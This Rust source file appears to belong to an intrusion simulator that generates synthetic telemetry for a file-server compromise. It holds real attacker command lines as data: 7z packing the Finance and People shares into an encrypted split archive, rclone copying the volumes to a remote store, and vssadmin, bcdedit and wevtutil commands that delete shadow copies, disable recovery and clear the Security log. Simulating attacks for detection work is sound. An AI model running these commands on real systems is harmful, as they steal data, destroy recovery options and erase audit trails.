//! On the file server: shares are packed and copied out, then the traces and the ways back go.

use std::sync::Arc;

use crate::clock::{MILLI, MINUTE, SECOND};
use crate::device::{Device, Start};
use crate::process::Process;
use crate::record::Connection;
use crate::software::{Binary, server, windows};

/// A command at the intruder's prompt.
fn run(
    device: &mut Device,
    at: i64,
    binary: &'static Binary,
    line: &str,
    lifetime: i64,
) -> Option<Arc<Process>> {
    let prompt = device.foothold.clone()?;
    Some(device.start(Start {
        at,
        binary,
        image: None,
        parent: &prompt,
        command_line: line.to_owned(),
        session: &prompt.session,
        integrity: "High",
        lifetime,
    }))
}

/// Two shares into an encrypted archive in volumes.
pub(super) fn collect(device: &mut Device, at: i64) {
    let world = Arc::clone(&device.world);
    let password = &world.plan.names.password;
    let line = format!(
        r"7z.exe a -hp{password} -v250m -mx1 C:\ProgramData\stk.7z D:\Shares\Finance D:\Shares\People"
    );
    let Some(packer) = run(device, at, &server::SEVEN_ZIP, &line, 11 * MINUTE) else { return };
    for volume in 1..=22 {
        let at = at + volume * 28 * SECOND + device.rng.between(0, 4000) * MILLI;
        device.file_created(at, &packer, &format!(r"C:\ProgramData\stk.7z.{volume:03}"));
    }
}

/// The volumes go to an address that nobody here has ever talked to.
pub(super) fn exfiltrate(device: &mut Device, at: i64) {
    let world = Arc::clone(&device.world);
    let target = world.plan.names.drop_address;
    let line = r"rclone.exe copy C:\ProgramData\ vault:in --include stk.7z.* --transfers 6 --no-check-certificate --config C:\ProgramData\r.conf";
    let Some(copier) = run(device, at + SECOND, &server::RCLONE, line, 22 * MINUTE) else { return };
    let Some(prompt) = device.foothold.clone() else { return };
    device.file_created(at, &prompt, r"C:\ProgramData\r.conf");
    let mut later = at + 2 * SECOND;
    for _ in 0..84 {
        device.connected(later, &copier, Connection::to(target, "-", 443));
        later += device.rng.between(9_000, 21_000) * MILLI;
        if later >= copier.ends {
            break;
        }
    }
}

/// Shadow copies, recovery and the security log are removed, and the archive with them.
pub(super) fn destroy(device: &mut Device, at: i64) {
    let Some(prompt) = device.foothold.clone() else { return };
    for volume in 1..=22 {
        let path = format!(r"C:\ProgramData\stk.7z.{volume:03}");
        device.file_deleted(at + volume * 35 * MILLI, &prompt, &path, false);
    }
    let later = at + 30_218 * MILLI;
    run(device, later, &windows::VSSADMIN, "vssadmin delete shadows /all /quiet", 3 * SECOND);
    device.service_state(later + 1_120 * MILLI, "Volume Shadow Copy", "VSS", true);
    let line = "bcdedit /set {default} recoveryenabled no";
    run(device, later + 9_644 * MILLI, &windows::BCDEDIT, line, SECOND);
    let later = later + 21_507 * MILLI;
    run(device, later, &windows::WEVTUTIL, "wevtutil cl Security", SECOND);
    let session = Arc::clone(&prompt.session);
    device.security_log_cleared(later + 300 * MILLI, &session);
}
